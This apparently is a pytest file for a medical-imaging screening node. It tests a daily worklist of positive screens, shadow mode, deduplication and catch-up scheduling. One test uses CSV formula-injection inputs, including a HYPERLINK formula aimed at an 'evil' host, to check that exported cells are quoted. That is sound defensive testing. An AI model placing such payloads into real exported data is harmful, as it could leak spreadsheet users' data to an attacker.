"""The care coordinators' daily worklist: positive screens of the last 24 h, CSV + JSON, private files."""
import csv
import datetime as dt
import json
import stat
import subprocess
import sys
import time

from dicom_node.db import NodeDB
from dicom_node.worklist import write_worklist


def _job(db: NodeDB, n: int, result: dict, finished: float) -> None:
    series = f"1.2.3.{n}"
    db.index_instance(sop_uid=f"{series}.1", sop_class="1.2.840.10008.5.1.4.1.1.2", study_uid="1.2.3", series_uid=series,
                      path="/dev/null", transfer_syntax="1.2.840.10008.1.2.1", calling_aet="CT1", patient_id="P1",
                      issuer="HOSP", modality="CT")
    job_id = db.decide_series(series, True, "test")
    db.finish_job(job_id, "screened", result, [])
    db._db.execute("UPDATE jobs SET updated_at=? WHERE id=?", (finished, job_id))


def test_worklist_lists_positive_screens_of_the_last_day_only(tmp_path):
    db = NodeDB(tmp_path / "osteoscreen.sqlite")
    day = dt.date(2026, 1, 6)
    at = dt.time(6, 0)
    end = dt.datetime.combine(day, at).timestamp()
    base = {"patient_id": "P1", "issuer": "HOSP", "accession_number": "ACC1", "study_uid": "1.2.3",
            "study_date": "20260105", "category": "Elevated risk", "probability": 0.2, "level": "L1", "mean_hu": 94.0,
            "model": "m 1", "sr_sop_instance_uid": "1.2.3.9"}
    _job(db, 1, {**base, "category_id": "screen_positive"}, end - 3600)
    _job(db, 2, {**base, "category_id": "screen_negative", "patient_id": "P2"}, end - 3600)
    _job(db, 3, {**base, "category_id": "screen_positive", "patient_id": "P3"}, end - 2 * 86400)  # older
    _job(db, 4, {**base, "category_id": "screen_positive", "duplicate_of": "1.2.3.9"}, end - 60)  # no new report
    path, n = write_worklist(db, tmp_path / "wl", day, at=at)
    db.close()
    assert n == 1 and path.name == "worklist-2026-01-06.csv"
    rows = list(csv.DictReader(path.open()))
    assert [r["patient_id"] for r in rows] == ["P1"] and rows[0]["accession_number"] == "ACC1"
    assert rows[0]["notice"].startswith("RESEARCH USE ONLY")  # the CSV coordinators open says so on every row
    doc = json.loads(path.with_suffix(".json").read_text())
    assert "RESEARCH USE ONLY" in doc["notice"] and doc["positive_screens"][0]["job_id"] == 1
    assert stat.S_IMODE(path.stat().st_mode) == 0o600 and stat.S_IMODE((tmp_path / "wl").stat().st_mode) == 0o700


def test_worklist_command(tmp_path):
    state = tmp_path / "state"
    state.mkdir()
    db = NodeDB(state / "osteoscreen.sqlite")
    noon = dt.datetime.combine(dt.date.today(), dt.time(12)).timestamp()
    _job(db, 1, {"category_id": "screen_positive", "patient_id": "P1"}, noon)
    db.close()
    cfg = tmp_path / "n.toml"
    cfg.write_text(f'[node]\nstate_dir = "{state}"\n[worklist]\nat = "23:59"\n')
    today = dt.date.today().isoformat()  # the list covers the 24 h before today 23:59
    r = subprocess.run([sys.executable, "-m", "dicom_node.cli", "worklist", "--config", str(cfg), "--date", today],
                       capture_output=True, text=True, timeout=60)
    assert r.returncode == 0, r.stderr
    assert f"worklist-{today}.csv (1 positive screen(s)" in r.stdout


# --- review of the operations path (2026-12-07) ---------------------------------------------------------------
CT = "1.2.840.10008.5.1.4.1.1.2"
POSITIVE = {"patient_id": "P1", "issuer": "HOSP", "study_uid": "1.2.3", "category_id": "screen_positive",
            "category": "positive", "probability": 0.9, "result_key": "K", "modalities": ["image"], "labs_used": []}


def _index(db: NodeDB, series: str, n: int) -> None:
    db.index_instance(sop_uid=f"{series}.{n}", sop_class=CT, study_uid="1.2.3", series_uid=series, path="/dev/null",
                      transfer_syntax="1.2.840.10008.1.2.1", calling_aet="CT1", patient_id="P1", issuer="HOSP",
                      modality="CT")


def _service(db: NodeDB, *, shadow: bool = False):
    """The service's result recording on a real database (nothing started: no listener, worker or sender)."""
    from config.schema import Settings
    from dicom_node.export import Exporter
    from dicom_node.service import Service

    settings = Settings()
    settings = settings.model_copy(update={"shadow": settings.shadow.model_copy(update={"enabled": shadow})})
    service = Service.__new__(Service)
    service.settings, service.db, service.result_destinations = settings, db, []
    service.exporter = Exporter(db, [], calling_aet="T", retry_initial_s=1, retry_max_s=1, timeout_s=1)
    return service


def _screen(service, series: str, sr_uid: str) -> int:
    from pipeline.job import ScreeningResult

    job = service.db.claim_job()
    assert job is not None and job.series_uid == series
    summary = {**POSITIVE, "sr_series_uid": sr_uid + ".0", "sr_sop_instance_uid": sr_uid}
    service._record_result(job, ScreeningResult(status="screened", reason="", series_uid=series, summary=summary, outputs=[]))
    return job.id


def _rows_tomorrow(db: NodeDB, directory) -> list[dict]:
    path, _ = write_worklist(db, directory, dt.date.today() + dt.timedelta(days=1), at=dt.time(0, 0))
    return list(csv.DictReader(path.open()))


def test_a_series_screened_again_with_the_same_result_stays_on_the_worklist(tmp_path):
    db = NodeDB(tmp_path / "osteoscreen.sqlite")
    service = _service(db)
    _index(db, "1.2.3.1", 1)
    job = db.decide_series("1.2.3.1", True, "ok")
    _screen(service, "1.2.3.1", "9.1")
    _index(db, "1.2.3.1", 2)  # a late instance reopens the screened series: it is screened again, same result
    assert db.decide_series("1.2.3.1", True, "ok") == job
    _screen(service, "1.2.3.1", "9.2")
    result = db.job(job).result
    assert "duplicate_of" not in result and result["sr_sop_instance_uid"] == "9.2"  # was: duplicate of its own SR
    assert [r["job_id"] for r in _rows_tomorrow(db, tmp_path / "wl")] == [str(job)]
    # Another series of the study with the very same result: still not sent or listed twice.
    _index(db, "1.2.3.2", 1)
    other = db.decide_series("1.2.3.2", True, "ok")
    _screen(service, "1.2.3.2", "9.3")
    assert db.job(other).result["duplicate_of"] == "9.2"
    assert [r["job_id"] for r in _rows_tomorrow(db, tmp_path / "wl")] == [str(job)]
    db.close()


def test_shadow_results_never_reach_a_worklist_and_the_command_refuses_in_shadow_mode(tmp_path):
    state = tmp_path / "state"
    db = NodeDB(state / "osteoscreen.sqlite")
    _index(db, "1.2.3.1", 1)
    shadow_job = db.decide_series("1.2.3.1", True, "ok")
    _screen(_service(db, shadow=True), "1.2.3.1", "9.1")
    assert db.job(shadow_job).result["shadow"] is True
    _index(db, "1.2.3.2", 1)  # after go-live
    live_job = db.decide_series("1.2.3.2", True, "ok")
    _screen(_service(db), "1.2.3.2", "9.2")
    assert [r["job_id"] for r in _rows_tomorrow(db, tmp_path / "wl")] == [str(live_job)]
    db.close()
    cfg = tmp_path / "n.toml"
    cfg.write_text(f'[node]\nstate_dir = "{state}"\n[shadow]\nenabled = true\n')
    r = subprocess.run([sys.executable, "-m", "dicom_node.cli", "worklist", "--config", str(cfg)],
                       capture_output=True, text=True, timeout=60)
    assert r.returncode == 2 and "shadow mode" in r.stdout and "osteoscreen predictions" in r.stdout, r.stdout
    assert not (state / "worklist").exists()


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted(tmp_path):
    from dicom_node.predictions import export_predictions

    db = NodeDB(tmp_path / "osteoscreen.sqlite")
    end = dt.datetime.combine(dt.date(2026, 1, 6), dt.time(6, 0)).timestamp()
    _job(db, 1, {"patient_id": '=HYPERLINK("http://evil/?"&A1,"open")', "issuer": "+1+1",
                 "accession_number": "@SUM(1+1)", "study_uid": "1.2.3", "category_id": "screen_positive",
                 "probability": 0.25, "mean_hu": -12.5, "reason": "-2+3", "level": "\tL1"}, end - 60)
    path, _ = write_worklist(db, tmp_path / "wl", dt.date(2026, 1, 6), at=dt.time(6, 0))
    row = next(csv.DictReader(path.open()))
    assert row["patient_id"] == '\'=HYPERLINK("http://evil/?"&A1,"open")'
    assert (row["issuer"], row["accession_number"], row["level"]) == ("'+1+1", "'@SUM(1+1)", "'\tL1")
    assert (row["probability"], row["mean_hu"]) == ("0.25", "-12.5")  # the node's own numbers stay numbers
    doc = json.loads(path.with_suffix(".json").read_text())  # JSON is data, not a spreadsheet: unchanged
    assert doc["positive_screens"][0]["issuer"] == "+1+1"
    export_predictions(db, tmp_path / "pred.csv")
    row = next(csv.DictReader((tmp_path / "pred.csv").open()))
    assert row["patient_id"].startswith("'=") and row["reason"] == "'-2+3" and row["mean_hu"] == "-12.5"
    db.close()


def test_a_restart_across_the_worklist_time_writes_every_missed_list(tmp_path):
    from dicom_node.worklist import catch_up

    db = NodeDB(tmp_path / "osteoscreen.sqlite")
    at = dt.time(6, 0)
    day = lambda d, h=6: dt.datetime.combine(dt.date(2026, 1, d), dt.time(h))  # noqa: E731
    _job(db, 1, {"category_id": "screen_positive", "patient_id": "P1"}, day(7, 12).timestamp())
    _job(db, 2, {"category_id": "screen_positive", "patient_id": "P2"}, day(9, 5).timestamp())
    first = catch_up(db, tmp_path / "wl", at, now=day(6, 7))  # first start: the latest list only
    assert [p.name for p, _ in first] == ["worklist-2026-01-06.csv"]
    assert catch_up(db, tmp_path / "wl", at, now=day(6, 23)) == []  # written: not again
    written = catch_up(db, tmp_path / "wl", at, now=day(10, 9))  # down from the 6th to the 10th, 9:00
    assert [(p.name, n) for p, n in written] == [("worklist-2026-01-07.csv", 0), ("worklist-2026-01-08.csv", 1),
                                                ("worklist-2026-01-09.csv", 1), ("worklist-2026-01-10.csv", 0)]
    doc = json.loads((tmp_path / "wl" / "worklist-2026-01-08.json").read_text())
    assert doc["period_start"] == "2026-01-07T06:00:00" and doc["positive_screens"][0]["patient_id"] == "P1"
    # The worklist time moved to 08:00: the next list starts where the last ended (26 h), one file per day.
    written = catch_up(db, tmp_path / "wl", dt.time(8, 0), now=day(11, 9))
    doc = json.loads((tmp_path / "wl" / "worklist-2026-01-11.json").read_text())
    assert [p.name for p, _ in written] == ["worklist-2026-01-11.csv"] and doc["period_hours"] == 26
    db.close()


def test_the_scheduler_writes_a_list_missed_while_the_node_was_down_at_start(tmp_path):
    from dicom_node.worklist import WorklistScheduler, last_due_end

    db = NodeDB(tmp_path / "osteoscreen.sqlite")
    now = dt.datetime.now()
    at = (now - dt.timedelta(minutes=2)).time().replace(second=0, microsecond=0)  # the node was down at `at`
    due = last_due_end(now, at)  # (yesterday's date just after midnight: the list is named by its end)
    db.record_worklist((due - dt.timedelta(days=3)).timestamp(), (due - dt.timedelta(days=2)).timestamp(), "x", 0)
    s = WorklistScheduler(db, tmp_path / "wl", at)
    s.start()
    try:
        deadline = time.time() + 20
        while len(list((tmp_path / "wl").glob("*.csv"))) < 2 and time.time() < deadline:
            time.sleep(0.1)
    finally:
        s.stop()
    names = sorted(p.name for p in (tmp_path / "wl").glob("*.csv"))
    assert names[-1] == f"worklist-{due.date().isoformat()}.csv" and len(names) == 2, names
    db.close()
